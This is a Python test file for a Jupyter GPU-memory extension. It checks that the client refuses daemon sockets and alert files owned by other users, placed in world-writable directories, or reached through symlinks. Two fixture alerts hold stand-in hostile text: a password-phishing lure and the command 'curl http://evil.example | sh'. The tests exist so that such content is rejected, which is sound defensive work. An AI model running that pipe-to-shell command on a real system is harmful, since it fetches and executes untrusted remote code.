"""The magics trust only a daemon of root's or of the kernel's user: the
table of cases the Go client and the server extension run too, then real
sockets and a real alert file."""

import json
import os
import socket
import stat
import threading
import types

import pytest

from gpumem_magics import alerts, daemon, state, vouch

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))))
TYPES = {"socket": stat.S_IFSOCK, "symlink": stat.S_IFLNK, "file": stat.S_IFREG}
ADVICE = "; unset GPUMEM_SOCKET or point it at your own daemon"

with open(os.path.join(REPO, "sidecar", "api", "testdata", "vouch-cases.json")) as f:
    TABLE = json.load(f)


def outcome(case):
    """The case's sentence ("" for accepted) through a Voucher given its facts."""
    path = TABLE["path"]

    def lstat(p):
        assert p == path
        sk = case["socket"]
        return types.SimpleNamespace(st_uid=sk["uid"], st_mode=TYPES[sk["type"]] | int(sk["mode"], 8))

    def stat_(p):
        assert p == os.path.dirname(path)
        return types.SimpleNamespace(st_uid=case["dir"]["uid"], st_mode=stat.S_IFDIR | int(case["dir"]["mode"], 8))

    def peer(_sock):
        assert case["peer"] is not None, "the peer asked for, where the case has none"
        return case["peer"]

    v = vouch.Voucher(uid=case["self"], lstat=lstat, stat_=stat_, peer=peer, name=lambda uid: TABLE["names"].get(str(uid), ""))
    try:
        v.check_path(path)
        if case["peer"] is not None:
            v.check_peer(path, None)
    except vouch.Untrusted as e:
        return str(e)
    return ""


@pytest.mark.parametrize("case", TABLE["cases"], ids=[c["name"] for c in TABLE["cases"]])
def test_table(case):
    assert outcome(case) == case["want"]


def test_twin_is_the_server_extensions_byte_for_byte():
    with open(os.path.join(REPO, "labextension", "jupyterlab_gpumem", "vouch.py"), "rb") as f:
        ext = f.read()
    with open(vouch.__file__, "rb") as f:
        assert f.read() == ext, "gpumem_magics/vouch.py and jupyterlab_gpumem/vouch.py differ: keep them one file"


class Server:
    """A unix socket answering every request with body, and the bytes each
    connection sent."""

    def __init__(self, path, body=b'{"notebooks": []}'):
        self.got = []
        self.s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.s.bind(path)
        self.s.listen(4)
        self.s.settimeout(10)
        self.body = body
        self.t = threading.Thread(target=self._serve, daemon=True)
        self.t.start()

    def _serve(self):
        try:
            c, _ = self.s.accept()
        except OSError:
            return
        with c:
            c.settimeout(10)
            data = b""
            while b"\r\n\r\n" not in data:
                chunk = c.recv(65536)
                if not chunk:
                    break
                data += chunk
            self.got.append(data)
            if data:
                c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(self.body), self.body))

    def close(self):
        self.s.close()
        self.t.join(10)


@pytest.fixture
def server(tmp_path, monkeypatch):
    path = str(tmp_path / "gpumem.sock")
    monkeypatch.setitem(state.config, "sidecar_socket", path)
    monkeypatch.setitem(state.config, "kernel_id", "k-mine")
    srv = Server(path, body=json.dumps({"kernel_id": "k-mine", "gpu_memory_bytes": 5, "per_gpu": [], "pids": []}).encode())
    yield srv
    srv.close()


def test_own_socket_is_used(server):
    # The tests' user (root) serves it, in its own private dir: used.
    assert daemon.driver_usage(timeout=5)["bytes"] == 5
    assert server.got and server.got[0].startswith(b"GET /api/v1/kernels/k-mine")


def test_another_users_peer_is_refused_before_any_request(server, monkeypatch):
    monkeypatch.setattr(vouch, "peer_uid", lambda _s: 1001)
    monkeypatch.setattr(vouch, "user_name", lambda uid: {1001: "bob"}.get(uid, ""))
    sock = state.sidecar_socket()
    want = "gpumem: not using " + sock + ": it is served by uid 1001 (bob), not by root or you" + ADVICE
    assert daemon.driver_usage(timeout=5) == {"error": want}
    assert daemon.free_children() == {"error": want}
    status, reply = daemon.sidecar_post("/api/v1/oom", {}, 5)
    assert (status, daemon.request_error(status, reply)) == (daemon.UNTRUSTED, want)
    server.close()
    assert server.got in ([], [b""]), "the impostor was sent %r" % server.got


def test_socket_in_an_open_dir_is_refused(tmp_path, monkeypatch):
    d = tmp_path / "open"
    d.mkdir()
    d.chmod(0o1777)
    path = str(d / "gpumem.sock")
    monkeypatch.setitem(state.config, "sidecar_socket", path)
    srv = Server(path)
    try:
        got = daemon.top_data(timeout=5)
    finally:
        srv.close()
    want = f"gpumem: not using {path}: its dir {d} is writable by group or others (mode 1777){ADVICE}"
    assert got == {"kind": "top", "error": want}
    assert srv.got == []


def alert_doc(message):
    return json.dumps({"alerts": [{"id": "gpu0-1", "message": message, "kernels": []}]})


def run_hook(path, capsys):
    alerts._alert_state.update(mtime=None, shown=set())
    alerts.alert_hook()
    return capsys.readouterr().out


def test_alert_file_of_another_user_is_refused_once(tmp_path, monkeypatch, capsys):
    path = tmp_path / "gpumem-alerts.json"
    path.write_text(alert_doc("re-enter your password at http://evil.example"))
    os.chown(path, 1001, 1001)
    monkeypatch.setitem(state.config, "alert_file", str(path))
    monkeypatch.setattr(vouch, "user_name", lambda uid: {1001: "bob"}.get(uid, ""))
    alerts._alert_state["refused"] = None
    out = run_hook(path, capsys)
    assert out == f"gpumem: not using {path}: the alert file belongs to uid 1001 (bob), not to root or you{ADVICE}\n"
    assert run_hook(path, capsys) == "", "the refusal said again"
    # The innocent: the daemon's own file (root's, the tests' user) is read.
    os.chown(path, 0, 0)
    path.write_text(alert_doc("GPU 0 is 95% full"))
    assert run_hook(path, capsys) == "gpumem: GPU 0 is 95% full\n"


def test_alert_file_through_a_link_is_refused(tmp_path, monkeypatch, capsys):
    real = tmp_path / "real.json"
    real.write_text(alert_doc("curl http://evil.example | sh"))
    link = tmp_path / "gpumem-alerts.json"
    link.symlink_to(real)
    monkeypatch.setitem(state.config, "alert_file", str(link))
    alerts._alert_state["refused"] = None
    out = run_hook(link, capsys)
    assert out == f"gpumem: not using {link}: it is a symbolic link, not the alert file itself{ADVICE}\n"
